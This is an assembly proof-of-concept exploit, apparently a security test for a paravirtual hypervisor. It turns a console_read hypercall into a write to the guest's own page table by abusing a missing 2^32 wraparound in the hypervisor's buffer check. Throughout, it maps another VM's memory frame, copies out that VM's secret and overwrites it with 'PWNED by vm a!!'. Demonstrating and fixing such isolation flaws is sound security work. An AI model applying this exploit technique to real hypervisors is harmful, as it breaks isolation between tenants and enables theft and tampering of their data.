# wrap: a direct-mode guest turns console_read into a write to its own L1
# page table (which it may never write), and so maps the NEXT VM's frame.
#
# The VMM checks each byte of a hypercall buffer with a software walk of the
# guest's kernel root, at gva = buf + index, without wrapping at 2^32.  For
# gva >= 2^32 the directory index is >= 1024, so the walker reads its "PDE"
# from the frame after the L2 (the bootstrap L1, whose entry 0 maps gfn 0
# writable) and its "PTE" from gfn 0, which is ordinary guest data: the guest
# writes there a fake writable PTE naming its own L1.  console_read(0xFFFFFFFC,
# 16) then stores console input into L1 entries 0..2.
#
# Console input (from the test): 4 filler bytes, L1 entries 0, 1, 2 (entry 2 =
# the victim's frame), then the same again with entry 2 restored, so that the
# VMM's accounting is intact at teardown.  Needs mem=4M (one L1 covering
# every frame) and an even L2 frame number (checked: "odd root").
        .include "pv.inc"
        .equ VICTIM_VA, 0x2000          # gfn 2's page: L1 entry 2
        .equ SECRET_OFFSET, 4           # the victim's secret, after its first jump
        kite_note
        .text
        .globl _start
_start:
        la      sp, stack_top
        li      t0, START_INFO_ADDR
        lw      s0, SI_KERNEL_ROOT_MFN(t0)
        lw      a0, SI_PT_FIRST_GFN(t0)
        addi    a0, a0, 1
        call    mfn_of
        mov     s1, a0                  # s1 = the bootstrap L1's machine frame
        andi    t0, s0, 1
        beqz    t0, 1f
        say     msg_odd
        j       done
1:      # map the top page (0xFFFFF000) with a legal PDE: L2[1023] = the bootstrap L1
        slli    a0, s0, PAGE_SHIFT
        li      t0, 1023 * 4
        add     a0, a0, t0
        slli    a1, s1, PAGE_SHIFT
        ori     a1, a1, PTE_RW
        call    update
        bnez    a0, fail
        # the fake PTE, in ordinary guest memory (gfn 0): writable, naming the L1
        slli    t0, s1, PAGE_SHIFT
        ori     t0, t0, PTE_RW
        sw      t0, 0(zero)
        # console_read into 0xFFFFFFFC..0x1_0000000B
        li      a1, 0xFFFFFFFC
        li      a2, 16
        hcall   HC_CONSOLE_READ
        mov     s2, a0
        say     msg_read
        mov     a0, s2
        call    putint
        say     msg_nl
        hcall   HC_TLB_FLUSH
        # gva 0x2000 now maps the victim's frame: copy its secret out ...
        li      t0, VICTIM_VA + SECRET_OFFSET
        la      t1, loot
        li      t2, 16
2:      lbu     t3, 0(t0)
        sb      t3, 0(t1)
        addi    t0, t0, 1
        addi    t1, t1, 1
        addi    t2, t2, -1
        bnez    t2, 2b
        say     msg_stolen
        say     loot
        say     msg_nl
        # ... and overwrite it
        li      t0, VICTIM_VA + SECRET_OFFSET
        la      t1, graffiti
3:      lbu     t3, 0(t1)
        sb      t3, 0(t0)
        addi    t0, t0, 1
        addi    t1, t1, 1
        bnez    t3, 3b
        # put entry 2 back the same way, so that teardown finds consistent counts
        li      a1, 0xFFFFFFFC
        li      a2, 16
        hcall   HC_CONSOLE_READ
        hcall   HC_TLB_FLUSH
done:   mov     a1, zero
        hcall   HC_SHUTDOWN
fail:   say     msg_fail
        li      a1, 1
        hcall   HC_SHUTDOWN

# update(a0 = ptr, a1 = val): a one-element mmu_update; returns its a0.
update:
        la      a2, batch
        sw      a0, 0(a2)
        sw      a1, 4(a2)
        mov     a1, a2
        li      a2, 1
        hcall   HC_MMU_UPDATE
        ret

        .include "pvlib.inc"
        .data
msg_odd:        .asciz "odd root\n"
msg_fail:       .asciz "setup refused\n"
msg_read:       .asciz "console_read across 2^32 -> "
msg_stolen:     .asciz "stolen: "
msg_nl:         .asciz "\n"
graffiti:       .asciz "PWNED by vm a!!\n"
        .balign 8
batch:  .space  8
loot:   .space  20
        .bss
        .balign 16
stack:  .space  512
stack_top:
        .balign 8192                    # the image ends in an odd page whatever the code's size,
pad:    .space  4096                    # so the bootstrap L2 (first_free's next page) is even
